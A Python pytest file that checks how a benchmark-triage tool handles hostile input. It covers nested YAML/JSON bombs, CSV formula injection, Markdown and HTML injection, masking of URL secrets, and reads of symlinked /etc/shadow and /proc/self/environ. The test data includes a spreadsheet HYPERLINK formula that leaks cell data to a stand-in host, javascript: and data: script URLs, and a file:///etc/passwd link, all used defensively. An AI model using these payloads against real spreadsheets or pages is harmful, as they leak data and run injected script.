"""Hostile input, second round (issue 23): files and parsed text. Deep nesting is a one-line refusal (never a
crash), CSV cells are cleaned then escaped, Markdown from files is inert, secrets in malformed URLs are masked,
``rules`` arguments cannot break the rule file."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import threading
import urllib.request
from pathlib import Path

import pytest

from tests.browser_tools import CHROMIUM, chromium_page, streamlit_server
from tests.cli_tools import python_m_triage, run_triage
from triage import safe_load
from triage.errors import TriageError

ROOT = Path(__file__).resolve().parent.parent
BENCH = ROOT / "tests" / "fixtures" / "bench"
VLLM = ROOT / "tests" / "fixtures" / "real" / "vllm" / "healthy" / "vllm_bench.json"
N = 100_000
DEEP_YAML = "x: " + "[" * N + "]" * N + "\n"  # the issue's file: 200 KB that killed the server (libyaml recursion)
DEEP = {"yaml flow": DEEP_YAML, "yaml block": "x:\n" + "- " * N + "a\n", "yaml mapping": "x: " + "{a: " * N + "1"
        + "}" * N + "\n", "yaml complex key": "? " * N + "a\n"}


def run_cli(*argv: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    """The CLI as its own process: a C stack overflow shows as exit -11 instead of killing pytest. A forked child
    of this one (tests/cli_tools.py), not a new interpreter that imports everything again."""
    return run_triage(*argv, cwd=cwd, isolated=True)


def one_line_refusal(proc: subprocess.CompletedProcess[str], *words: str) -> str:
    err = proc.stderr.strip()
    assert proc.returncode == 2, (proc.returncode, err[-300:])
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err[-300:]
    for word in words:
        assert word in err, err
    return err


# ---------------------------------------------------------------- 1. deep nesting


@pytest.mark.parametrize("name", list(DEEP))
def test_the_safe_loader_refuses_deep_yaml(name):
    with pytest.raises(TriageError, match="YAML is nested too deeply"):
        safe_load.load_yaml(DEEP[name], where="d.yaml")


@pytest.mark.parametrize("text", ["[" * N + "]" * N, '{"a": ' * N + "1" + "}" * N, "[" * 150 + "]" * 150])
def test_the_safe_loader_refuses_deep_json(text):
    with pytest.raises(TriageError, match="JSON is nested too deeply"):
        safe_load.load_json(text, where="d.json")
    with pytest.raises(TriageError, match="JSON is nested too deeply"):
        safe_load.load_json_values(text + "\n" + text, where="d.jsonl")


def test_the_safe_loader_refuses_deep_toml():
    with pytest.raises(TriageError, match="TOML is nested too deeply"):
        safe_load.load_toml("x = " + "[" * N + "]" * N, where="secrets.toml")
    with pytest.raises(TriageError, match="TOML is nested too deeply"):
        safe_load.load_toml("x = " + "[" * 150 + "]" * 150, where="secrets.toml")


def test_the_safe_loader_refuses_deep_yaml_in_a_thread():
    """Streamlit runs a page in a thread of its own: the refusal must not depend on the main thread's stack."""
    errors: list[BaseException] = []

    def load() -> None:
        for text in DEEP.values():
            try:
                safe_load.load_yaml(text)
            except TriageError as exc:
                errors.append(exc)
    worker = threading.Thread(target=load)
    worker.start()
    worker.join()
    assert len(errors) == len(DEEP) and all("nested too deeply" in str(e) for e in errors)


def test_the_safe_loader_still_reads_real_files_and_refuses_aliases():
    doc = safe_load.load_yaml((BENCH / "guidellm_v05.yaml").read_text(encoding="utf-8"))
    assert isinstance(doc, dict) and doc["benchmarks"]
    assert safe_load.load_json(VLLM.read_text(encoding="utf-8"))["num_prompts"]
    assert safe_load.value_depth(safe_load.load_yaml("a: [[1, {b: [2]}]]")) == 5
    with pytest.raises(TriageError, match="aliases"):
        safe_load.load_yaml("a: &x [1]\nb: *x\n")
    with pytest.raises(TriageError, match="larger than"):
        safe_load.load_yaml("a: 1\n" * 10, max_chars=20)
    with pytest.raises(TriageError, match=r"invalid YAML at line 2"):
        safe_load.load_yaml("a: 1\n b: [\n")


def test_aliases_where_allowed_are_counted_whole():
    """Tree files may hold aliases (yaml.safe_dump writes them), but an alias counts as its anchor's depth and
    size: neither a deep anchor reused nor a billion-laughs file gets past the check."""
    assert safe_load.load_yaml("a: &x [1, [2]]\nb: *x\n", aliases=True) == {"a": [1, [2]], "b": [1, [2]]}
    deep = "a: &a " + "[" * 60 + "]" * 60 + "\nb: " + "[" * 50 + "*a" + "]" * 50 + "\n"
    with pytest.raises(TriageError, match="nested too deeply"):
        safe_load.load_yaml(deep, aliases=True)
    laughs = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8))
    with pytest.raises(TriageError, match="aliases expand"):
        safe_load.load_yaml(laughs, aliases=True)


@pytest.fixture(scope="module")
def deep_files(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("deep")
    out = {}
    for name, text in {"d.yaml": DEEP_YAML, "d.json": "[" * N + "]" * N, "block.yaml": DEEP["yaml block"]}.items():
        out[name] = root / name
        out[name].write_text(text, encoding="utf-8")
    return out


@pytest.mark.parametrize("name", ["d.yaml", "d.json", "block.yaml"])
def test_cli_diagnose_refuses_deep_files_in_one_line(deep_files, name):
    one_line_refusal(run_cli("diagnose", str(deep_files[name])), "nested too deeply")
    one_line_refusal(run_cli("report", str(deep_files[name])), "nested too deeply")


def test_cli_gate_refuses_a_deep_gate_file_in_one_line(deep_files):
    proc = run_cli("gate", str(VLLM), str(VLLM), "--gate", str(deep_files["d.yaml"]))
    one_line_refusal(proc, "d.yaml", "nested too deeply")


def test_cli_tree_dir_and_memory_config_refuse_deep_files(deep_files, tmp_path):
    tree = tmp_path / "tree"
    subprocess.run(["cp", "-r", str(ROOT / "tree"), str(tree)], check=True)
    (tree / "guidance.yaml").write_text(DEEP_YAML, encoding="utf-8")
    one_line_refusal(run_cli("tree", "--tree-dir", str(tree)), "guidance.yaml", "nested too deeply")
    config = tmp_path / "config.json"
    config.write_text('{"a": ' * N + "1" + "}" * N, encoding="utf-8")
    one_line_refusal(run_cli("memory", "--config", str(config), "--gpu", "h100"), "nested too deeply")


def test_a_deep_retro_import_and_secrets_file_are_refused(tmp_path):
    from triage.report.markdown import restore_walk
    from triage.sources.metrics.profiles import list_profiles

    deep = base64.b64encode(('{"a": ' * 500 + "1" + "}" * 500).encode()).decode()
    with pytest.raises(TriageError, match="nested too deeply"):
        restore_walk(f"# r\n<!-- triage-retro:{deep} -->\n")
    secrets = tmp_path / "secrets.toml"
    secrets.write_text("[prometheus.x]\nurl = " + "[" * N + "]" * N + "\n", encoding="utf-8")
    with pytest.raises(TriageError, match="nested too deeply"):
        list_profiles(secrets, {})


@pytest.mark.browser
@pytest.mark.skipif(not os.path.exists(CHROMIUM), reason="Debian chromium is not installed")
def test_the_server_survives_the_deep_upload_on_benchmark(deep_files):
    """The issue's file uploaded on /benchmark of a real ``streamlit run``: a one-line refusal on the page, and the
    same server (not a restarted one) still answers and still reads a good file. Before, the process died
    (SIGSEGV) and the page showed CONNECTING; run in a server of its own so a regression cannot take pytest down."""
    from playwright.sync_api import expect

    with streamlit_server() as url, chromium_page() as page:
        page.goto(f"{url}/benchmark")
        expect(page.get_by_text("Showing the bundled sample")).to_be_visible(timeout=60000)
        page.locator(".st-key-bench_upload input[type=file]").set_input_files(str(deep_files["d.yaml"]))
        expect(page.get_by_text("YAML is nested too deeply").first).to_be_visible(timeout=60000)
        assert urllib.request.urlopen(f"{url}/_stcore/health", timeout=10).read() == b"ok"
        page.locator(".st-key-bench_upload input[type=file]").set_input_files(str(VLLM))
        expect(page.get_by_text("Detected format: vLLM bench serve JSON").first).to_be_visible(timeout=60000)
        assert page.get_by_text("Traceback").count() == 0


# ---------------------------------------------------------------- 3. CSV cells: clean, then escape

CSV_HOSTILE = {"who": "\u202e=HYPERLINK(\"http://evil.invalid/?leak=\"&A1)", "note": "\x1b[0m+SUM(1,2)",
               "technique": "\u200b\u2066 -2+3", "candidate": "\ufeff\u3000@cmd"}


def _exported(tmp_path: Path) -> list[list[str]]:
    import csv
    import io

    from triage.verify.experiment_log import Entry, ExperimentLog

    db = tmp_path / "log.db"
    ExperimentLog(db).save(Entry(CSV_HOSTILE["technique"], {}, "base.json", "0" * 64, CSV_HOSTILE["candidate"],
                                 "1" * 64, [], "no effect", note=CSV_HOSTILE["note"], who=CSV_HOSTILE["who"]))
    page_csv = ExperimentLog(db).export_csv()  # what the /log page's download button serves
    proc = run_cli("log", "--db", str(db), "export")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.replace("\r\n", "\n") == page_csv.replace("\r\n", "\n")
    return list(csv.reader(io.StringIO(proc.stdout)))


def test_csv_export_cleans_before_escaping(tmp_path):
    from triage.safe_text import csv_cell

    assert csv_cell(CSV_HOSTILE["who"]) == "'=HYPERLINK(\"http://evil.invalid/?leak=\"&A1)"
    assert csv_cell(CSV_HOSTILE["note"]) == "'+SUM(1,2)"
    assert csv_cell(CSV_HOSTILE["technique"]) == "'-2+3" and csv_cell(CSV_HOSTILE["candidate"]) == "'@cmd"
    assert csv_cell("plain text") == "plain text" and csv_cell(-42.0) == -42.0
    header, row = _exported(tmp_path)
    cells = dict(zip(header, row, strict=True))
    assert cells["who"].startswith("'=HYPERLINK(") and cells["note"] == "'+SUM(1,2)", cells
    for value in row:  # nothing a spreadsheet would run, whatever sat in front of it
        assert not value.startswith(("=", "+", "-", "@", "|", "%", " ", "\t")), value
        assert not any(c in value for c in "\x1b\u202e\u200b\u2066\ufeff"), value


# ---------------------------------------------------------------- 5. Markdown from files and imported walks

EVIL = "evil.invalid"
INJECT = (f"![l](http://{EVIL}/pixel) <img src=http://{EVIL}/i.png> [click](javascript:alert(1)) "
          f"[x](http://{EVIL}/) www.{EVIL} a@{EVIL} `code` | # heading\n## two")


def no_markup(markdown: str) -> None:
    """The crafted text is there only as literal text: once every backslash escape is taken out, no image, link,
    HTML or autolink syntax is left on any line that carries it (the check tests/test_hostile_pages.py uses)."""
    lines = [line for line in markdown.splitlines() if EVIL in line or "javascript" in line]
    assert lines, "the crafted text is missing altogether"
    for line in lines:
        bare = re.sub(r"\\.", "", line)
        assert "](" not in bare and "<img" not in bare and f"www.{EVIL}" not in bare, line
        assert f"://{EVIL}" not in bare and f"@{EVIL}" not in bare and not line.startswith("## two"), line


def test_report_of_a_file_neutralises_its_label(tmp_path):
    data = json.loads(VLLM.read_text(encoding="utf-8"))
    data["label"] = INJECT
    path = tmp_path / "label.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    proc = run_cli("report", str(path))
    assert proc.returncode == 0, proc.stderr
    no_markup(proc.stdout)


def test_an_imported_walk_is_re_exported_inert(kb):
    from triage.report.markdown import report_markdown, restore_walk

    crafted = {"title": INJECT, "source": INJECT, "change": INJECT, "verification": INJECT[:100],
               "notes": {"symptom": INJECT}, "timeline": [{"at": INJECT[:40], "step": INJECT[:80], "text": INJECT}]}
    imported = f"# r\n<!-- triage-retro:{base64.b64encode(json.dumps(crafted).encode()).decode()} -->\n"
    state = restore_walk(imported, kb)
    exported = report_markdown(kb, None, state)
    no_markup(exported.split("<!-- triage-retro:")[0])
    assert restore_walk(exported, kb).to_dict() == state.to_dict()  # the walk itself still round-trips


# ---------------------------------------------------------------- 6. secrets in malformed URLs, quoted file heads

MALFORMED = ["user:s3cret@127.0.0.1:9/metrics", "http://user:s3c/ret@127.0.0.1:9/metrics",
             "http://user:s3c@ret@127.0.0.1:9/metrics", " user:s3cret@127.0.0.1:9/metrics?access_token=s3ctok",
             "https://s3ctoken@127.0.0.1:9/m", "http://127.0.0.1:9/m;token=s3ctok", "http://[::1/m?api_key=s3ctok"]


@pytest.mark.parametrize("url", MALFORMED)
def test_redaction_does_not_depend_on_the_url_parsing(url):
    from triage.safe_text import redact_text, redact_url

    shown = redact_url(url)
    assert "s3c" not in shown and ("127.0.0.1" in shown or "[::1" in shown), shown  # the host stays readable
    assert "s3c" not in redact_text(f"cannot reach {url}: refused") and "s3c" not in redact_text(f"'{url}'")


def test_redaction_leaves_what_holds_no_secret():
    from triage.safe_text import redact_text, redact_url

    for url in ("http://host/@name", "http://127.0.0.1:9090/api/v1/query?q=up", "ops@example.com"):
        assert redact_url(url) == url
    assert redact_text("at 12:30 mail ops@example.com") == "at 12:30 mail ops@example.com"


@pytest.mark.parametrize("url", MALFORMED[:3])
def test_cli_never_prints_a_malformed_urls_secret(url):
    for flag in ("--endpoint", "--prometheus"):
        proc = run_cli("diagnose", flag, url, "--timeout", "2")
        assert proc.returncode == 2 and "s3c" not in proc.stdout + proc.stderr, proc.stderr


def test_live_page_never_shows_a_malformed_urls_secret(monkeypatch):
    from streamlit import config as st_config

    from tests.apptest_tools import open_page, texts

    monkeypatch.delenv("TRIAGE_LIVE_TYPED_URLS", raising=False)
    before = st_config.get_option("server.address")
    st_config.set_option("server.address", "127.0.0.1", "test")  # typed URLs are offered on a loopback listener
    try:
        at = open_page("pages/live.py", source="scrape")
        for url in MALFORMED[:3]:
            at.text_input(key="live_url").input(url).run()
            assert not at.exception, at.exception
            shown = texts(at)
            assert "s3c" not in shown, shown
            # a refusal: the scheme is missing, or the place (never the secret) could not be read
            assert "http://" in shown or "127.0.0.1" in shown or "could not read metrics" in shown, shown
    finally:
        st_config.set_option("server.address", before, "test")


SECRET_HEAD = "root:$6$s3cretsalt$hash:19000:0:99999:7:::"


def test_unknown_format_quotes_nothing_of_a_symlink_or_proc_file(tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text(SECRET_HEAD + "\n", encoding="utf-8")
    link = tmp_path / "bench.csv"
    link.symlink_to(secret)
    err = one_line_refusal(run_cli("diagnose", str(link)), "not a load-test result", "not quoted")
    assert "s3c" not in err and "root" not in err
    if os.path.exists("/etc/shadow"):
        system = tmp_path / "system.csv"
        system.symlink_to("/etc/shadow")
        err = one_line_refusal(run_cli("diagnose", str(system)))
        assert "root" not in err and "$" not in err, err
    env = {**os.environ, "TRIAGE_TEST_SECRET": "s3cret-in-environ"}
    proc = python_m_triage("diagnose", "/proc/self/environ", env=env)  # a new process: its own environment
    err = one_line_refusal(proc)
    assert "s3c" not in err and "TRIAGE" not in err and "PATH" not in err, err
    proc = run_cli("gate", str(link), str(VLLM))
    assert proc.returncode == 2 and "s3c" not in proc.stderr, proc.stderr


def test_unknown_format_quotes_a_short_printable_head_of_a_plain_file(tmp_path):
    plain = tmp_path / "notes.txt"
    plain.write_text("hello\x1b[31m red\u202e " + "x" * 200 + "\n", encoding="utf-8")
    err = one_line_refusal(run_cli("diagnose", str(plain)), "first line 'hello red")
    quoted = err.split("first line ", 1)[1].split("' is not", 1)[0]
    assert len(quoted) <= 42 and "[31m" not in quoted and "\u202e" not in quoted, quoted
    header = tmp_path / "h.csv"
    header.write_text("a,b," + "c" * 200 + "\n1,2,3\n", encoding="utf-8")
    err = one_line_refusal(run_cli("diagnose", str(header)), "first line 'a,b,ccc")
    assert "c" * 60 not in err


# ---------------------------------------------------------------- 7. rules: arguments that land in the rule file

PROMTOOL = shutil.which("promtool") or "/usr/bin/promtool"
BAD_DASHBOARDS = {"javascript:alert(document.domain)": "must start with http",
                  "data:text/html,<script>alert(1)</script>": "must start with http",
                  "file:///etc/passwd": "must start with http", "ftp://h.example/": "must start with http",
                  "https://h.example/\nx: y": "control character", "https://h.example/\r\n- alert: X": "control",
                  "https://h.example/\u202etxt.exe": "control character", "https://h.example/ x": "whitespace",
                  "https://user:pw@h.example/": "credentials", "https://h.example/#top": "fragment",
                  "https://h.example:99999/": "not a valid URL", "https:///nohost": "names no host", "": "give"}


def rules_cli(capsys, *argv: str) -> tuple[int, str, str]:
    from triage.cli import main

    try:
        code = main(["rules", *argv])
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def promtool_check(tmp_path: Path, text: str) -> None:
    path = tmp_path / "rules.yml"
    path.write_text(text, encoding="utf-8")
    done = subprocess.run([PROMTOOL, "check", "rules", str(path)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("url", list(BAD_DASHBOARDS), ids=range(len(BAD_DASHBOARDS)))
def test_rules_refuse_a_dashboard_url_that_is_not_plain_http(capsys, url):
    code, out, err = rules_cli(capsys, "--dashboard-url", url)
    assert code == 2 and not out and len(err.strip().splitlines()) == 1, err
    assert err.startswith("error: --dashboard-url: ") and BAD_DASHBOARDS[url] in err, err
    assert "passwd" not in err and "script" not in err and "pw@" not in err  # the refusal does not echo the input


def test_rules_refuse_a_bad_dashboard_url_from_the_environment(capsys, monkeypatch):
    monkeypatch.setenv("TRIAGE_DASHBOARD_URL", "javascript:alert(1)")
    code, _, err = rules_cli(capsys)
    assert code == 2 and "TRIAGE_DASHBOARD_URL" in err and "must start with http" in err


@pytest.mark.parametrize("profile", ["{{ .Labels }}", "prod\nx", "a b", "p&source=evil", "", "x" * 65])
def test_rules_refuse_a_profile_outside_the_safe_alphabet(capsys, profile):
    code, out, err = rules_cli(capsys, "--profile", profile)
    assert code == 2 and not out and err.startswith("error: --profile: ") and err.count("\n") == 1, err


def test_rules_with_a_queried_or_braced_dashboard_url_pass_promtool(capsys, tmp_path):
    code, out, _ = rules_cli(capsys, "--dashboard-url", "https://proxy.example/triage/?tenant=a&x={{y}}",
                             "--profile", "prod-eu.1")
    assert code == 0
    promtool_check(tmp_path, out)
    import yaml

    alerts = [r for r in yaml.safe_load(out)["groups"][0]["rules"] if "alert" in r]
    link = alerts[0]["annotations"]["runbook_url"]
    assert link.startswith("https://proxy.example/triage/live?tenant=a&x=%7B%7By%7D%7D&source=prometheus"
                           "&profile=prod-eu.1&window=15m&end="), link


def test_template_syntax_in_tree_text_stays_literal(capsys, tmp_path):
    """A title holding ``{{ … }}`` (a tree edited by someone else) is printed, not evaluated: promtool passes
    and the annotation carries it as the literal-printing action."""
    import yaml

    from triage.alerting.export import template_literal

    tree = tmp_path / "tree"
    shutil.copytree(ROOT / "tree", tree)
    data = yaml.safe_load((tree / "tree.yaml").read_text(encoding="utf-8"))
    for symptom in data["symptoms"]:
        for cause in symptom["causes"]:
            cause["title"]["en"] = "Queue {{ .Labels }} {{ x }}"
    (tree / "tree.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    code, out, err = rules_cli(capsys, "--tree-dir", str(tree))
    assert code == 0, err
    promtool_check(tmp_path, out)
    assert template_literal("a {{ b }}") == 'a {{ "{{" }} b }}'
    assert '{{ "{{" }} .Labels }}' in out


# ---------------------------------------------------------------- /memory: numbers from the URL


@pytest.mark.parametrize("query", [{"params": "nan"}, {"params": "inf"}, {"params": "-inf"}, {"params": "1e400"},
                                   {"params": "-5"}, {"layers": "0"}, {"head_dim": "nan"}, {"len": "1e9"},
                                   {"conc": "99999999999999999999"}, {"util": "nan"}, {"gpu": "no-such-gpu"}])
def test_memory_page_refuses_non_finite_or_out_of_range_url_numbers(query):
    from tests.apptest_tools import open_page, texts

    at = open_page("pages/memory.py", model="__custom__", **query)
    shown = texts(at)
    (param, raw), = query.items()
    warned = " ".join(w.value for w in at.warning).replace("\\", "")
    assert f"{param}={raw}" in warned and "is not accepted" in warned, warned
    assert "nan" not in shown.lower().replace(raw.lower(), "") and "inf GiB" not in shown, shown
    assert "It fits" in shown or "It does not fit" in shown  # the page still computes, from the defaults


def test_memory_page_keeps_valid_url_numbers_silently():
    from tests.apptest_tools import open_page

    at = open_page("pages/memory.py", model="__custom__", params="70", layers="80", kv_heads="8")
    assert not at.warning and at.number_input(key="mem_params").value == 70.0
    zh = open_page("pages/memory.py", model="__custom__", params="nan", lang="zh")
    assert any("不被接受" in w.value for w in zh.warning)
